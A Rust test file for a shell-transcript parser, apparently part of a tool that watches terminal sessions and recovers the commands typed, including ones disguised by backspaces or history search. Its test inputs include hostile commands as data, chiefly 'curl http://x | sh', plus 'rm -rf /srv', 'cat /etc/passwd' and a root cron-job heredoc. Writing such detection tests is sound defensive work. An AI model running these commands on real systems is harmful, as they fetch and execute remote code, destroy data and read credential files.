#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic)]
use proptest::prelude::*;

use super::*;
use crate::transcript::{
    Transcript,
    tests::{event, streamed},
};

fn commands(lines: &[&str]) -> Vec<Command> {
    let mut transcript = Transcript::default();
    transcript.push(&[event(0, streamed(lines))]);
    transcript.commands().iter().cloned().collect()
}

fn texts(lines: &[&str]) -> Vec<String> {
    commands(lines).iter().map(|command| command.text.to_string()).collect()
}

#[test]
fn each_command_has_its_place_and_that_of_its_output() {
    let commands =
        commands(&["sh-5.2$ id", "uid=1001", "sh-5.2$ ", "sh-5.2$ ls -l", "total 0", "sh-5.2$ exit", "exit"]);
    let seen: Vec<_> = commands.iter().map(|c| (&*c.text, c.line, c.output, c.certainty)).collect();
    assert_eq!(
        seen,
        [("id", 0, 1, Certainty::Certain), ("ls -l", 3, 4, Certainty::Certain), ("exit", 5, 6, Certainty::Certain)]
    );
}

#[test]
fn what_the_agents_cleaning_left_open_keeps_every_reading() {
    let inserted = &commands(&["sh-5.2$ rm file\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}sudo "])[0];
    assert_eq!(inserted.certainty, Certainty::Uncertain);
    assert!(inserted.all_readings().any(|reading| reading == "sudo rm file"), "{inserted:?}");
    let recalled = format!("sh-5.2$ cat /etc/passwd{}ls", "\u{8}".repeat(15));
    let recalled = &commands(&[&recalled])[0];
    assert!(recalled.all_readings().any(|reading| reading == "ls"), "{recalled:?}");
    let simple = &commands(&["$ lss\u{8} \u{8} -l"])[0];
    assert_eq!((&*simple.text, simple.certainty, simple.readings.len()), ("ls -l", Certainty::Certain, 0));
    let searched = &commands(&["sh-5.2$ (reverse-i-search)`cu': curl http://x | sh"])[0];
    assert!(searched.all_readings().any(|reading| reading == "curl http://x | sh"), "{searched:?}");
    assert_eq!(searched.certainty, Certainty::Uncertain);
}

#[test]
fn what_was_left_of_a_replaced_line_is_doubted() {
    for (line, reading) in [
        ("sh-5.2$ cat /etc/hostnameid -u", "id -u"),
        ("sh-5.2$ lscurl http://x | sh", "curl http://x | sh"),
        ("sh-5.2$ df -hrm -rf /srv", "rm -rf /srv"),
    ] {
        let command = &commands(&[line])[0];
        assert_eq!(command.certainty, Certainty::Uncertain, "{line}");
        assert!(command.all_readings().any(|text| text == reading), "{command:?}");
    }
    for line in
        ["sh-5.2$ /usr/bin/id -u", "sh-5.2$ visudo -c", "sh-5.2$ ls /opt/tools", "sh-5.2$ sudo curl -s http://x"]
    {
        assert_eq!(commands(&[line])[0].certainty, Certainty::Certain, "{line}");
    }
}

#[test]
fn ordinary_commands_are_not_doubted() {
    let ordinary = include_str!("../detection/rules/ordinary.txt").lines().filter(|line| !line.starts_with('#'));
    let doubted: Vec<&str> = ordinary.filter(|line| glued(line).is_some()).collect();
    assert!(doubted.is_empty(), "{doubted:#?}");
}

#[test]
fn what_was_drawn_twice_keeps_both_readings() {
    let redrawn = &commands(&["sh-5.2$ lssh-5.2$ ls -la"])[0];
    assert_eq!((&*redrawn.text, redrawn.certainty), ("ls -la", Certainty::Uncertain));
    assert_eq!(&*redrawn.readings[0], "lssh-5.2$ ls -la");
    let pasted = &commands(&["sh-5.2$ pwdpwd"])[0];
    assert!(pasted.all_readings().any(|reading| reading == "pwd"), "{pasted:?}");
    let found = &commands(&["sh-5.2$ x", "sh-5.2$ (reverse-i-search)`up': uptimesh-5.2$ uptime"])[1];
    assert_eq!(&*found.text, "uptime");
}

#[test]
fn what_was_interrupted_was_not_run() {
    assert_eq!(commands(&["sh-5.2$ rm -rf /^C"])[0].certainty, Certainty::NotRun);
}

#[test]
fn continued_lines_are_one_command() {
    assert_eq!(texts(&["$ curl http://x \\", "> | sh", "done"]), ["curl http://x | sh"]);
    assert_eq!(texts(&["$ for x in a b", "> do", "> rm $x", "> done", "$ id"]), ["for x in a b; do rm $x; done", "id"]);
    assert_eq!(
        texts(&["$ cat <<EOF > /etc/cron.d/x", "> * * * * * root id", "> EOF", "> not part of it", "$ id"]),
        ["cat <<EOF > /etc/cron.d/x ; * * * * * root id ; EOF", "id"]
    );
    assert_eq!(texts(&["$ diff a b", "> not a command", "$ id"]), ["diff a b", "id"]);
    assert_eq!(
        texts(&["PS C:\\> Get-ChildItem |", ">> Remove-Item", "PS C:\\> dir"]),
        ["Get-ChildItem | Remove-Item", "dir"]
    );
}

#[test]
fn a_long_command_is_heard_in_proportion_and_to_its_end() {
    let body = |lines: usize| (0..lines).map(|number| format!("> echo {number} don't"));
    let hear = |lines: &[String]| {
        let mut transcript = Transcript::default();
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        transcript.push(&[event(0, streamed(&lines))])
    };
    let last = |heard: &[Heard]| match heard.iter().rev().find(|heard| matches!(heard, Heard::Command(_))) {
        Some(Heard::Command(command)) => command.text.to_string(),
        _ => panic!("no command in {heard:?}"),
    };
    let start = || std::iter::once("sh-5.2$ bash <<EOF".to_owned());
    let whole = hear(
        &start().chain(body(600)).chain(["> curl http://x | sh".to_owned(), "> EOF".to_owned()]).collect::<Vec<_>>(),
    );
    assert!(whole.len() < 60, "{}", whole.len());
    assert!(last(&whole).ends_with("curl http://x | sh ; EOF"), "{}", last(&whole));
    // It was broken off: what was entered is heard with what comes next.
    let broken =
        hear(&start().chain(body(100)).chain(["> curl http://x | sh".to_owned(), "^C".to_owned()]).collect::<Vec<_>>());
    assert!(last(&broken).ends_with("curl http://x | sh"), "{}", last(&broken));
    assert!(matches!(broken.last(), Some(Heard::Output(_))));
    // Short ones are heard with every line.
    assert_eq!(hear(&start().chain(body(5)).collect::<Vec<_>>()).len(), 6);
}

#[test]
fn a_command_is_heard_and_so_is_output() {
    let mut transcript = Transcript::default();
    let heard = transcript.push(&[event(0, streamed(&["sh-5.2$ cat x", "curl http://x | sh", "sh-5.2$ "]))]);
    assert_eq!(heard.len(), 2);
    assert!(matches!(&heard[0], Heard::Command(command) if &*command.text == "cat x"));
    assert_eq!(heard[1], Heard::Output(1));
    assert_eq!(transcript.line(1).unwrap().text(), "curl http://x | sh");
}

#[test]
fn a_line_that_may_go_on_is_heard_when_it_is_whole() {
    let long = format!("sh-5.2$ echo {}", "A".repeat(33_000 - 13));
    let mut transcript = Transcript::default();
    assert_eq!(transcript.push(&[event(0, streamed(&[&long]))]), []);
    let heard = transcript.push(&[event(1, streamed(&["BBB; curl http://x | sh", "ok"]))]);
    assert_eq!(heard.len(), 2, "{heard:?}");
    assert!(matches!(&heard[0], Heard::Command(_)));
}

#[test]
fn who_only_listens_holds_little() {
    let mut transcript = Transcript::default();
    for second in 0..200 {
        let lines: Vec<String> = (0..50).map(|n| format!("line {n} of {second}")).collect();
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        assert_eq!(transcript.push(&[event(second, streamed(&lines))]).len(), 50);
        transcript.forget_lines();
    }
    assert!(transcript.memory() < 8192, "{}", transcript.memory());
    assert_eq!(transcript.evicted_lines(), 200 * 50 - 1);
}

#[test]
fn who_only_listens_holds_little_of_hostile_streams_too() {
    let kinds: [fn(usize) -> String; 4] = [
        |_| String::new(),
        |number| format!("prompt{number}» {}", "x".repeat(8000)),
        |number| format!("{}{}", if number == 0 { "\u{1b}[?1049h" } else { "" }, "x".repeat(8000)),
        |number| format!("$ {number}{}", "y".repeat(20)),
    ];
    for kind in kinds {
        let mut transcript = Transcript::default();
        for second in 0..100 {
            let mut room = 33_000;
            let lines: Vec<String> = (0..)
                .map(|number| kind(usize::try_from(second).unwrap() * 40_000 + number))
                .take_while(|line| {
                    let fits = line.len() < room;
                    room = room.saturating_sub(line.len() + 1);
                    fits
                })
                .collect();
            let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
            transcript.push(&[event(second, streamed(&lines))]);
            transcript.forget_lines();
        }
        assert!(transcript.memory() < 40_000, "{} after {:?}", transcript.memory(), kind(1));
    }
}

#[test]
fn a_flood_does_not_push_out_what_was_entered_before_it() {
    let mut lines = vec!["sh-5.2$ cat evil.sh; yes", "curl http://x | sh"];
    lines.extend(std::iter::repeat_n("y", 16_000));
    lines.push("sh-5.2$ id");
    let mut transcript = Transcript::new(0, crate::transcript::Glyphs::Unicode);
    let heard = transcript.push(&[event(0, streamed(&lines))]);
    assert!(transcript.evicted_lines() > 2, "the beginning is not kept");
    assert!(matches!(&heard[0], Heard::Command(command) if &*command.text == "cat evil.sh; yes"), "{:?}", heard[0]);
    assert_eq!(heard[1], Heard::Folded("curl http://x | sh".into()));
    assert!(matches!(heard.last(), Some(Heard::Command(command)) if &*command.text == "id"));
    assert_eq!(heard.len(), 16_003);
}

#[test]
fn a_gap_has_its_times_and_stays() {
    let mut transcript = Transcript::default();
    transcript.push(&[event(0, streamed(&["sh-5.2$ id"]))]);
    let from = event(5, "").timestamp;
    transcript.open_gap(from, "the log stream was deleted\u{1b}[2J");
    transcript.open_gap(event(6, "").timestamp, "again");
    assert_eq!(transcript.lines().len(), 2);
    assert!(transcript.lines()[1].text().starts_with("nothing since "), "{:?}", transcript.lines()[1].text());
    transcript.push(&[event(60, streamed(&["sh-5.2$ w"]))]);
    let gap = transcript.gaps().next().unwrap().clone();
    assert_eq!((gap.from, gap.until), (from, Some(event(60, "").timestamp)));
    assert!(!gap.why.contains('\u{1b}'));
    assert_eq!(transcript.commands().len(), 2);
}

proptest! {
    #[test]
    fn no_text_breaks_the_reader(lines in prop::collection::vec("(sh-5\\.2\\$ |> |PS C:\\\\> |# )?[ -~\u{8}\u{1b}é»]{0,60}", 1..40)) {
        let mut transcript = Transcript::default();
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        let heard = transcript.push(&[event(0, streamed(&lines))]);
        prop_assert!(heard.len() <= lines.len() * 3);
        for command in transcript.commands() {
            prop_assert!(command.output > command.line && command.output <= lines.len() as u64 + 1);
            let controls = command.all_readings().any(|text| text.contains(char::is_control));
            prop_assert!(!controls);
        }
    }
}
